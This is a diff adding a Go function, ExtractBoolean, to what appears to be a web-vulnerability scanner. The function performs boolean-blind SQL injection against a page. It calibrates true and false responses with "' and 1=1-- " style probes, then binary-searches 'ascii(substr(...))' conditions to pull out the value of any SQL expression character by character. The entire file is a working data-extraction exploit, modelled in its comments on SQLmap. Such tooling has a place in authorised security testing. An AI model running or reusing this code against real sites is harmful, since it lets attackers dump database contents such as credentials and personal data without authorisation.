@@ -1,0 +1,98 @@
+package scanner
+
+import (
+	"fmt"
+	"net/http"
+)
+
+// ExtractBoolean exfiltrates the value of a scalar SQL expression through
+// the boolean-blind channel of a vulnerable page: for each character
+// position it binary-searches the byte value with
+// "AND ascii(substr((expr),i,1)) > k" probes, telling TRUE from FALSE by
+// the response body — exactly how SQLmap dumps data when only the boolean
+// channel is available. quoted selects the quoted-context payload wrapper.
+// maxLen caps the extraction (0 means 32).
+//
+// Every probe is recorded in the scanner's request log like any other.
+func (s *Scanner) ExtractBoolean(p Page, expr string, quoted bool, maxLen int) (string, error) {
+	if maxLen <= 0 {
+		maxLen = 32
+	}
+	probe := func(cond string) (bool, error) {
+		var inj string
+		if quoted {
+			inj = fmt.Sprintf("%s' and %s-- ", p.Benign, cond)
+		} else {
+			inj = fmt.Sprintf("%s and %s", p.Benign, cond)
+		}
+		r, err := s.probe(p, inj)
+		if err != nil {
+			return false, err
+		}
+		if r.status != http.StatusOK {
+			return false, fmt.Errorf("probe failed with status %d", r.status)
+		}
+		return r.body == s.trueBody, nil
+	}
+
+	// Calibrate the TRUE response once.
+	var calib string
+	if quoted {
+		calib = p.Benign + "' and 1=1-- "
+	} else {
+		calib = p.Benign + " and 1=1"
+	}
+	r, err := s.probe(p, calib)
+	if err != nil {
+		return "", err
+	}
+	if r.status != http.StatusOK {
+		return "", fmt.Errorf("calibration failed with status %d", r.status)
+	}
+	s.trueBody = r.body
+
+	// Check the FALSE side actually differs; otherwise the channel is dead.
+	var falseCalib string
+	if quoted {
+		falseCalib = p.Benign + "' and 1=2-- "
+	} else {
+		falseCalib = p.Benign + " and 1=2"
+	}
+	fr, err := s.probe(p, falseCalib)
+	if err != nil {
+		return "", err
+	}
+	if fr.body == s.trueBody {
+		return "", fmt.Errorf("no boolean difference on %s", p.Path)
+	}
+
+	var out []byte
+	for i := 1; i <= maxLen; i++ {
+		// First check the character exists at all.
+		exists, err := probe(fmt.Sprintf("length((%s)) >= %d", expr, i))
+		if err != nil {
+			return "", err
+		}
+		if !exists {
+			break
+		}
+		lo, hi := 0, 255
+		for lo < hi {
+			mid := (lo + hi) / 2
+			greater, err := probe(fmt.Sprintf("ascii(substr((%s),%d,1)) > %d", expr, i, mid))
+			if err != nil {
+				return "", err
+			}
+			if greater {
+				lo = mid + 1
+			} else {
+				hi = mid
+			}
+		}
+		if lo == 0 {
+			break
+		}
+		out = append(out, byte(lo))
+	}
+	return string(out), nil
+}
